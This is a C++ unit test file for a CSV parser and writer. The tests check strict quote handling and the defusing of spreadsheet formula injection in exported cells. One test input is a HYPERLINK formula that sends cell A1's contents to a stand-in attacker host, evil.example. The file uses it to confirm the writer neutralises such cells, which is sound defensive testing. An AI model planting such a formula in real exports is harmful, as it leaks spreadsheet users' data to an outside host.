// tools/cli/csv.h: the reader refuses text after a closing quote, and every
// cell creg writes is defused against spreadsheet formulas.
#include "tools/cli/csv.h"

#include <gtest/gtest.h>

namespace creg::cli {
namespace {

std::vector<std::string> FieldsOf(std::string_view text) {
  StatusOr<std::vector<CsvRecord>> records = ParseCsv(text);
  EXPECT_TRUE(records.ok()) << records.status().ToString();
  if (!records.ok() || records->size() != 1) return {};
  return (*records)[0].fields;
}

TEST(CsvReaderTest, ReadsRfc4180Fields) {
  EXPECT_EQ(FieldsOf("a,\"b,c\",\"say \"\"hi\"\"\",\r\n"),
            (std::vector<std::string>{"a", "b,c", "say \"hi\"", ""}));
  EXPECT_EQ(FieldsOf("\"two\nlines\",x"), (std::vector<std::string>{"two\nlines", "x"}));
  EXPECT_EQ(FieldsOf("\"\",\"end\""), (std::vector<std::string>{"", "end"}));
  EXPECT_EQ(FieldsOf("\"crlf\"\r\n"), (std::vector<std::string>{"crlf"}));
  // A quote inside an unquoted field is an ordinary character.
  EXPECT_EQ(FieldsOf("5\" pipe,x"), (std::vector<std::string>{"5\" pipe", "x"}));
}

TEST(CsvReaderTest, RefusesTextAfterAClosingQuoteNamingLineAndColumn) {
  StatusOr<std::vector<CsvRecord>> r = ParseCsv("a,b\n\"ab\"cd,e\n");
  ASSERT_FALSE(r.ok());
  EXPECT_EQ(r.status().code(), StatusCode::kInvalidArgument);
  EXPECT_NE(r.status().message().find("line 2, column 5"), std::string::npos)
      << r.status().ToString();
  EXPECT_NE(r.status().message().find("closing quote"), std::string::npos);

  // Columns count characters, and lines inside a quoted field count too.
  r = ParseCsv("x,\"é\nü\" y\n");
  ASSERT_FALSE(r.ok());
  EXPECT_NE(r.status().message().find("line 2, column 3"), std::string::npos)
      << r.status().ToString();

  for (std::string_view bad : {"\"ab\" ", "\"ab\"\"", "\"a\"b,c", "x,\"a\"\rb"}) {
    SCOPED_TRACE(std::string(bad));
    EXPECT_FALSE(ParseCsv(bad).ok());
  }
}

TEST(CsvWriterTest, FormulaCellsGetAQuoteAndAreQuoted) {
  EXPECT_EQ(CsvField("=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"),
            "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\"");
  EXPECT_EQ(CsvField("+1+1"), "\"'+1+1\"");
  EXPECT_EQ(CsvField("-2+3"), "\"'-2+3\"");
  EXPECT_EQ(CsvField("@SUM(A1:A2)"), "\"'@SUM(A1:A2)\"");
  EXPECT_EQ(CsvField("\tx"), "\"'\tx\"");
  EXPECT_EQ(CsvField("\r=1"), "\"'\r=1\"");
  EXPECT_EQ(CsvField("-"), "\"'-\"");
  EXPECT_EQ(CsvField("-1e5"), "\"'-1e5\"");
  EXPECT_EQ(CsvField("+5"), "\"'+5\"");
}

TEST(CsvWriterTest, PlainNumbersAndOrdinaryTextStayAsTheyAre) {
  for (std::string_view same : {"-12", "-0.5", "120", "0", "ACME Ltd", "1:1-500", "VR-2025-1",
                                "a=b", "Société Générale", ""}) {
    EXPECT_EQ(CsvField(same), same);
    EXPECT_FALSE(CsvLooksLikeFormula(same)) << same;
  }
  EXPECT_EQ(CsvField("a,b"), "\"a,b\"");
  // Quoted so that a spreadsheet splitting on ';' or tabs keeps one cell.
  EXPECT_EQ(CsvField("x;=1+2"), "\"x;=1+2\"");
  EXPECT_EQ(CsvField("x\t=1+2"), "\"x\t=1+2\"");
}

TEST(CsvWriterTest, WhatIsWrittenReadsBackWithTheAddedQuote) {
  std::vector<std::string> cells = {"=1+2", "-3", "a \"b\"", "x;y", "@z"};
  StatusOr<std::vector<CsvRecord>> back = ParseCsv(CsvLine(cells));
  ASSERT_TRUE(back.ok()) << back.status().ToString();
  ASSERT_EQ(back->size(), 1u);
  EXPECT_EQ((*back)[0].fields, (std::vector<std::string>{"'=1+2", "-3", "a \"b\"", "x;y", "'@z"}));
}

}  // namespace
}  // namespace creg::cli
